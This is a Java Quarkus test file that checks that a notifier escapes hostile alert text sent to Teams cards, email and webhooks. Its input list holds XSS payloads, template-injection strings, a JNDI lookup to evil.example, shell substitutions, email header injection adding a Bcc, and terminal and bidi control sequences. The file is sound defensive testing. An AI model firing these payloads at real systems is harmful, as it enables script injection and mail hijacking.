package dev.iris.notifier.channel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.iris.events.NotificationEvent.AlertNews;
import dev.iris.events.NotificationEvent.Transition;
import dev.iris.notifier.News;
import dev.iris.notifier.NotifierResource;
import dev.iris.notifier.NotifierScene;
import dev.iris.testing.SmtpSink.Mail;
import io.quarkus.test.junit.QuarkusTest;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** What strangers write in labels and annotations arrives on every channel, and is interpreted on none. */
@QuarkusTest
class HostileNewsTest extends NotifierScene {

  static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
          "\"><a href=\"javascript:alert(1)\" onclick='alert(1)'>x</a><!-- ]]> --></title></style>",
          "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example> **b**",
          "{{7*7}} ${7*7} #{7*7} {7*7} {#if true}x{/if} {inject:clock} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
          "{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${$root.secret} $(date) `date` %s %n",
          "<at>everyone</at> @everyone @channel <@U1> <!here> <users/all>",
          "\u001b[31mred\u001b]8;;https://evil.example\u0007x\u001b[2J\u009b31m\b\u0007",
          "a\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n.\r\nQUIT\r\n",
          "=?utf-8?q?=0D=0ABcc:_victim@evil.example?= a\u2028b\u2029c\u0085d\u000be",
          "\u202egnp.exe\u2066x\u2069\u200b\u00ad\ufeff\ud83d \u0000\u0001\ud83d\ude00\uffff",
          "\\ \\\\ \" ' ` \\u0022 &quot; &#60;script&#62; &lt;b&gt;");

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern TAG = Pattern.compile("<[^>]*>");
  private static final Pattern KNOWN_TAG =
      Pattern.compile(
          "</?(html|head|meta|title|style|body|table|tr|td|div|b|a)\\b[^<]*>|<!DOCTYPE html>",
          Pattern.CASE_INSENSITIVE);
  private static final Pattern HREF = Pattern.compile("href=\"([^\"]*)\"");
  private static final Set<String> HEADERS = Set.of("Bcc", "Cc", "X-Injected");

  @ParameterizedTest
  @FieldSource("TEXTS")
  void shouldArriveAsTextAndAsNothingElse(String text) throws JsonProcessingException {
    teams("card", true, "{'perSecond':null,'perHour':null}");
    mail("post", true, "ops@example.org");
    webhook("hook", true);
    AlertNews alert =
        News.alert(Transition.OPENED, text, text, text, text, text, "javascript:" + text);

    request(News.of(alert));

    await()
        .untilAsserted(
            () -> {
              assertThat(requests("card")).hasSize(1);
              assertThat(requests("hook")).hasSize(1);
              assertThat(NotifierResource.smtp().mails()).hasSize(1);
            });
    assertHarmlessCard(JSON.readTree(requests("card").getFirst().text()));
    assertHarmlessMail(NotifierResource.smtp().mails().getFirst());
    assertThat(JSON.readTree(requests("hook").getFirst().text()).at("/alerts/0/alertName").asText())
        .isEqualTo(storable(text));
  }

  /** Each text is shown as it stands: what Markdown would take for more has a backslash before it. */
  private static void assertHarmlessCard(JsonNode message) {
    assertThat(message.findValue("entities")).isNull();
    assertThat(message.findValuesAsText("type"))
        .doesNotContain("Image", "Action.Submit", "Input.Text");
    assertThat(message.findValuesAsText("url"))
        .allMatch(url -> url.startsWith("http://127.0.0.1:8080/"));
    assertThat(texts(message))
        .allSatisfy(
            text -> {
              assertThat(text.codePoints()).noneMatch(HostileNewsTest::isMischief);
              assertThat(text)
                  .doesNotContainPattern("(?<!\\\\)\\]\\(javascript")
                  .doesNotContainPattern("(?<!\\\\)!?\\[(click|x)");
            });
    assertThat(message.findValuesAsText("text"))
        .noneMatch(text -> Pattern.compile("(?<!\\\\)<[a-zA-Z/!]").matcher(text).find());
  }

  private static void assertHarmlessMail(Mail mail) {
    String subject = Objects.requireNonNull(mail.subject());
    assertThat(subject.codePoints()).noneMatch(HostileNewsTest::isMischief);
    assertThat(mail.recipients()).containsExactly("ops@example.org");
    assertThat(HEADERS).allSatisfy(header -> assertThat(mail.header(header)).isNull());
    String html = Objects.requireNonNull(mail.part("text/html"));
    assertThat(TAG.matcher(html).results().map(MatchResult::group))
        .allMatch(tag -> KNOWN_TAG.matcher(tag).matches());
    assertThat(TAG.matcher(html).results().map(MatchResult::group))
        .noneMatch(tag -> tag.matches("(?is).*\\son\\w+\\s*=.*"));
    assertThat(HREF.matcher(html).results().map(href -> href.group(1)))
        .allMatch(href -> href.startsWith("http://127.0.0.1:8080/"));
    for (String part : List.of(html, Objects.requireNonNull(mail.part("text/plain")))) {
      assertThat(part.codePoints().filter(c -> c != '\n' && c != '\r'))
          .noneMatch(HostileNewsTest::isMischief);
      assertThat(part).doesNotContain("7*7}}49", "\n49 ").doesNotContain(" 49 ");
    }
  }

  /** Control characters, line ends, what turns the direction of writing, halves of characters. */
  private static boolean isMischief(int c) {
    return Character.isISOControl(c)
        || c == 0x2028
        || c == 0x2029
        || (c >= 0x202A && c <= 0x202E)
        || (c >= 0x2066 && c <= 0x2069)
        || (c >= 0xD800 && c <= 0xDFFF);
  }

  private static List<String> texts(JsonNode node) {
    List<String> texts = new ArrayList<>();
    collect(node, texts);
    return texts;
  }

  private static void collect(JsonNode node, List<String> into) {
    if (node.isTextual()) {
      into.add(node.asText());
    }
    node.forEach(child -> collect(child, into));
  }

  /** Half a character cannot travel in UTF-8. */
  private static String storable(String text) {
    return Stream.of(text)
        .map(t -> t.replaceAll("\\ud83d(?![\\ude00-\\udfff])", "?"))
        .findFirst()
        .orElseThrow();
  }
}
